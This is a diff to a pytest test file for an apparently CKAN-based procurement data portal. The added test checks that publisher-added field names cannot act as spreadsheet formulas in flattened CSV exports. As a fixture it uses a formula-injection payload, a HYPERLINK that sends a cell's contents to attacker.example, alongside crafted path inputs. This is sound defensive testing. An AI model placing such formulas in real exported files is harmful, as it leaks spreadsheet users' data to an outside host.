@@ -261,3 +261,25 @@ def test_quality_figures_never_name_a_process_that_is_no_longer_public(app, vict
 @pytest.mark.parametrize("owner_org", ["%00", "../x", "<script>", "a" * 300, "%F0%9F%92%A3"])
 def test_a_crafted_quality_page_name_is_a_404_never_a_500(app, victim, owner_org):
     assert app.get(f"/publication-quality/{owner_org}").status_code == 404
+
+
+FORMULA_KEY = '=HYPERLINK("http://attacker.example/?"&A2,"Open")'
+
+
+def test_a_harvested_field_name_cannot_be_a_formula_in_the_flattened_tables(app, victim, sysadmin, tmp_path,
+                                                                            ckan_config, monkeypatch):
+    """OCDS lets a publisher add fields (extensions): their names become column headers of the
+    flattened CSV and XLSX tables, and are read by a spreadsheet like any other cell."""
+    monkeypatch.setitem(ckan_config, "ckanext.procurement.bulk.directory", str(tmp_path / "bulk"))
+    extended = _process("ocds-hx0001-extended", "Extended", **{FORMULA_KEY: "x"})
+    extended[0]["tender"][FORMULA_KEY] = "y"
+    save(sysadmin, victim["organization"], extended)
+    regenerate.generate(PORTAL)
+    with zipfile.ZipFile(io.BytesIO(app.get("/bulk/portal/flat-csv.zip").get_data())) as archive:
+        for name in ("processes.csv", "tenders.csv", "dictionary.csv"):
+            rows = list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
+            cells = [cell for row in rows for cell in row]
+            assert any("HYPERLINK" in cell for cell in cells), name  # kept: nothing published is lost
+            assert not any(cell.startswith(("=", "+", "-", "@")) and "HYPERLINK" in cell for cell in cells), name
+    dictionary = app.get("/bulk/portal/data-dictionary.csv").get_data().decode("utf-8-sig")
+    assert not any(cell.startswith("=") for row in csv.reader(io.StringIO(dictionary)) for cell in row)
